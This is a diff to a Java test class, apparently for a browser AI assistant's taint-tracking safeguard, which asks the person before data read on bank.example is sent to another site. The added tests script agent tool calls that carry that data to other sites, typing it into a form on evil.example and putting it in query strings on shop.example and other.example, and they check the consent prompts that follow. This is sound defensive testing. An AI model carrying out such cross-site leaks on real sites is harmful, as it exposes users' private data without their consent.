@@ -92,19 +92,73 @@ class TaintEndToEndTest {
         visit.isOn(BANK);
         visit.readsTheBank();
         visit.rig.answers(call("navigate_to", to("https://evil.example/form")), finish("STOP"));
+        visit.lists();
         visit.rig.calls("type_text", json("{'ref':1,'text':'siti.rahmawati'}"));
-        try (var run = visit.rig.panel.start(visit.browser.asking("What is here?"))) {
+        try (var run = visit.rig.panel.start(visit.browser.asking("Go on"))) {
             visit.showsTheBank();
             visit.asked("allow");
             visit.browser.done(
                     visit.browser.await("action_request"),
                     json("{'navigated_to':'https://evil.example/form','title':'Form'}"));
+            visit.browser.done(
+                    visit.browser.await("action_request"),
+                    json("{'elements':[{'id':1,'role':'textbox','name':'Nama'}]}"));
             assertThat(visit.asked("deny"))
                     .contains(
                             "The browser is on evil.example now, and the assistant wants to do"
                                     + " something on the page.",
                             "The text would tell evil.example something that was read on"
                                     + " bank.example.");
+            run.whole();
+        }
+    }
+
+    @Test
+    void aSiteThatThePersonNamedIsToldWhatWasReadElsewhereOnlyIfTheyAgree() throws Exception {
+        visit.isOn(BANK);
+        visit.readsTheBank();
+        visit.rig.calls("navigate_to", to("https://shop.example/?q=siti.rahmawati"));
+        try (var run = visit.rig.panel.start(visit.browser.asking("Compare with shop.example"))) {
+            visit.showsTheBank();
+            assertThat(visit.asked("deny"))
+                    .isEqualTo(
+                            "The address would tell shop.example something that was read on"
+                                    + " bank.example.");
+            run.whole();
+        }
+    }
+
+    @Test
+    void soIsTheSiteThatAClickLedTo() throws Exception {
+        visit.isOn(BANK);
+        visit.readsTheBank();
+        visit.lists();
+        visit.rig.answers(call("click_element", json("{'ref':4}")), finish("STOP"));
+        visit.rig.calls("navigate_to", to("https://other.example/?q=siti.rahmawati"));
+        try (var run = visit.rig.panel.start(visit.browser.asking("Go on"))) {
+            visit.showsTheBank();
+            visit.showsElements();
+            visit.does("click_element", "{'navigated_to':'https://other.example/'}");
+            assertThat(visit.asked("deny"))
+                    .isEqualTo(
+                            "The address would tell other.example something that was read on"
+                                    + " bank.example.");
+            run.whole();
+        }
+    }
+
+    @Test
+    void theSiteThatTheRunBeganOnMayBeToldWhatWasReadElsewhere() throws Exception {
+        visit.isOn(BANK);
+        visit.rig.answers(call("navigate_to", to("https://shop.example/")), finish("STOP"));
+        visit.readsTheBank();
+        visit.rig.calls("navigate_to", to("https://bank.example/?q=melati.kencana"));
+        try (var run = visit.rig.panel.start(visit.browser.asking("Compare with shop.example"))) {
+            visit.does("navigate_to", "{'navigated_to':'https://shop.example/'}");
+            visit.does(
+                    "get_page_content",
+                    "{'url':'https://shop.example/','text':'Toko melati.kencana'}");
+            visit.does("navigate_to", "{'navigated_to':'https://bank.example/'}");
             run.whole();
         }
     }
